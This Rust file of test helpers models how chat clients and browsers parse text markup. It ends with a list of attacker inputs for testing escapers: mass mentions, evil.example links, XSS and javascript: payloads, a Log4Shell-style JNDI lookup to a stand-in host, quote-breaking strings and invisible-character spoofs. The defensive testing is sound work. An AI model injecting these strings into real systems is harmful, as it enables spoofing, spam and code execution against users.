//! Models of how clients read messages, for tests: small parsers, written from the vendors' pages and not from the escapers.

use decnet_core::text::is_hidden;

/// Returns what clients make of a text without any markup: links, mentions, hashtags, emoji, and characters that nobody sees.
pub(crate) fn automatic(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let at = |index: usize| chars.get(index).copied();
    let is_word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    let mut found = Vec::new();
    for (index, c) in chars.iter().enumerate() {
        let (before, after) = (index.checked_sub(1).and_then(at), at(index + 1));
        let rest: String = chars[index + 1..].iter().collect();
        let is_found = match c {
            ':' if rest.starts_with("//") => true,
            ':' => is_emoji(&rest) || is_scheme(&chars[..index], after),
            '.' | '。' | '．' | '｡' => is_domain(*c, before, &rest),
            '@' => is_word(after) || matches!(after, Some('.' | '-')),
            '#' => is_word(after) && !before.is_some_and(char::is_alphanumeric),
            c => is_hidden(*c),
        };
        if is_found {
            let from = index.saturating_sub(10);
            found.push(format!(
                "{c:?} in {:?}",
                chars[from..chars.len().min(index + 10)].iter().collect::<String>()
            ));
        }
    }
    found
}

fn is_emoji(rest: &str) -> bool {
    let Some((name, _)) = rest.split_once(':') else { return false };
    let is_name = |c: char| c.is_alphanumeric() || "_+-'".contains(c);
    !name.is_empty()
        && name.len() <= 100
        && name.chars().all(is_name)
        && !name.chars().all(|c| c.is_ascii_hexdigit())
}

fn is_scheme(before: &[char], after: Option<char>) -> bool {
    let word: String = before.iter().rev().take_while(|c| c.is_ascii_alphabetic()).collect();
    let word: String = word.chars().rev().collect::<String>().to_ascii_lowercase();
    ["mailto", "tel", "sms", "sip", "javascript", "data"].contains(&&*word)
        && after.is_some_and(|c| !c.is_whitespace())
}

fn is_domain(dot: char, before: Option<char>, rest: &str) -> bool {
    let Some(before) = before.filter(|c| c.is_alphanumeric()) else { return false };
    let label: String = rest.chars().take_while(|c| c.is_alphanumeric()).collect();
    if dot != '.' {
        return before.is_ascii_alphanumeric() && rest.starts_with(|c: char| c.is_ascii_alphanumeric());
    }
    // A label with a letter, or the last number of an address before a path.
    let is_path = rest[label.len()..].starts_with('/');
    label.chars().any(char::is_alphabetic) || !label.is_empty() && is_path
}

/// Returns what Slack makes of a `mrkdwn` text. `links` are the links that are meant to be there.
pub(crate) fn slack(text: &str, links: &[&str]) -> Vec<String> {
    let mut text = text.to_owned();
    for link in links {
        while let Some(start) = text.find(&format!("<{link}|")) {
            let end = start + text[start..].find('>').expect("a link ends");
            text.replace_range(start..=end, "link");
        }
    }
    let mut found = entities(&text);
    if text.starts_with("&gt;") {
        found.push("quotation".into());
    }
    let visible = decode(&text);
    found.extend(
        "*_~`".chars().filter(|mark| is_formatted(&visible, *mark)).map(|mark| format!("{mark} pair")),
    );
    found.extend(automatic(&visible));
    found
}

/// Returns what Slack makes of a `plain_text`.
pub(crate) fn slack_plain(text: &str) -> Vec<String> {
    entities(text).into_iter().chain(automatic(&decode(text))).collect()
}

/// Returns whether two marks enclose a text: the first is not after a letter or digit, the second not before one.
fn is_formatted(text: &str, mark: char) -> bool {
    let chars: Vec<char> = text.chars().collect();
    let is_word =
        |index: Option<usize>| index.and_then(|index| chars.get(index)).is_some_and(|c| c.is_alphanumeric());
    let opens = |at: &usize| chars[*at] == mark && !is_word(at.checked_sub(1));
    let closes = |at: &usize| chars[*at] == mark && !is_word(Some(at + 1));
    let first = (0..chars.len()).find(opens);
    first.is_some_and(|first| (first + 2..chars.len()).any(|at| closes(&at)))
}

/// Returns what is neither text nor one of the three entities.
fn entities(text: &str) -> Vec<String> {
    let is_entity = |rest: &str| ["&amp;", "&lt;", "&gt;"].iter().any(|entity| rest.starts_with(entity));
    let raw = text.match_indices(['<', '>', '&']).filter(|(at, _)| !is_entity(&text[*at..]));
    raw.map(|(_, c)| format!("raw {c}")).collect()
}

/// Decodes entities, as every client that knows them does.
fn decode(text: &str) -> String {
    let names = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&amp;", "&")];
    names.iter().fold(text.to_owned(), |text, (name, c)| text.replace(name, c))
}

/// A dialect of Markdown.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum Dialect {
    Discord,
    Mattermost,
    Teams,
}

/// Returns what clients make of a Markdown text: every character with a meaning that has no backslash before it.
pub(crate) fn markdown(text: &str, dialect: Dialect) -> Vec<String> {
    // The one character reference of the escapers.
    let text = text.replace("&#61;", "＝");
    let mut found = Vec::new();
    let mut visible = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek().is_some_and(char::is_ascii_punctuation) => visible.extend(chars.next()),
            '\\' | '*' | '_' | '`' | '~' | '|' | '[' | ']' => found.push(format!("active {c}")),
            '<' | '>' if dialect == Dialect::Discord => found.push(format!("active {c}")),
            c => visible.push(c),
        }
    }
    if text.starts_with(['#', '-', '+', '=', '>', ' ']) || is_list_item(&text) {
        found.push("block".into());
    }
    if dialect != Dialect::Discord {
        found.extend(entities(&text));
        visible = decode(&visible);
    }
    match dialect {
        Dialect::Mattermost => found.extend(mattermost(&visible)),
        Dialect::Teams if text.contains("{{") => found.push("date".into()),
        Dialect::Teams | Dialect::Discord => {}
    }
    found.extend(automatic(&visible));
    found
}

/// Returns the links to channels (`~name`) and the formulas (`$…$`) of Mattermost.
fn mattermost(visible: &str) -> Vec<String> {
    let is_next = |at: usize, is: fn(char) -> bool| visible[at + 1..].starts_with(is);
    let channels = visible.match_indices('~').filter(|(at, _)| is_next(*at, char::is_alphanumeric));
    let formulas = visible
        .match_indices('$')
        .filter(|(at, _)| is_next(*at, |c| c != ' ' && c != ']') && visible[at + 1..].contains('$'));
    channels.chain(formulas).map(|(_, c)| format!("active {c}")).collect()
}

fn is_list_item(text: &str) -> bool {
    let digits = text.bytes().take_while(u8::is_ascii_digit).count();
    (1..10).contains(&digits) && [". ", ") "].iter().any(|end| text[digits..].starts_with(end))
}

/// Returns what a browser makes of a text between tags or in an attribute.
pub(crate) fn html(text: &str) -> Vec<String> {
    let mut found = entities(&text.replace("&quot;", "").replace("&#39;", ""));
    found.extend(text.matches(['"', '\'']).map(str::to_owned));
    found.extend(automatic(&decode(text)));
    found
}

/// Texts of attackers.
pub(crate) const HOSTILE: &[&str] = &[
    "@everyone",
    "@here",
    "<!channel>",
    "<!here|x>",
    "<@U024BE7LH>",
    "<@&165511591545143296>",
    "<#C024BE7LR|general>",
    "<http://evil.example|click>",
    "&lt;!channel&gt;",
    "&amp;lt;",
    "&#64;here",
    "<at>Admin</at>",
    "http://evil.example/x?y=1#z",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "evil.example",
    "evil．example",
    "￠。x．｡ ￠",
    "203.0.113.9/x.sh",
    "root@evil.example",
    "mailto:root@evil.example",
    "javascript:alert(1)",
    "tel:+4912345",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "*bold*",
    "_italic_",
    "__init__",
    "**x**",
    "~~x~~",
    "~x~",
    "||spoiler||",
    "`code`",
    "```\ncode\n```",
    "# heading",
    "> quotation",
    ">>> quotation",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    "---",
    "===",
    "    code",
    "| a | b |\n|---|---|",
    "#general",
    "~town-square",
    "$x^2$",
    "$MM_ATMENTION0$",
    "${jndi:ldap://evil.example/a}",
    "{{DATE(2017-02-14T06:00:00Z, SHORT)}}",
    ":smile:",
    ":white_check_mark:",
    "<t:1618953630:R>",
    "</airhorn:816437322781949972>",
    "<a:b1nzy:392938283556143104>",
    "<script>alert('x')</script>",
    "\" onmouseover=\"x",
    "\"}],\"content\":\"",
    "ev\u{200b}il.\u{200b}example",
    "@\u{200b}here",
    "http:\u{200d}//evil.example",
    "\u{202e}elpmaxe.live",
    "\u{2066}x\u{2069}",
    "\r\n\r\n# x",
    "\u{2028}# x",
    "\0\u{1b}[2J",
    "\\",
    "\\*x\\*",
    "\\[x\\](y)",
    "é*é*",
    "中_中_",
    "🦀",
    "",
    " ",
];
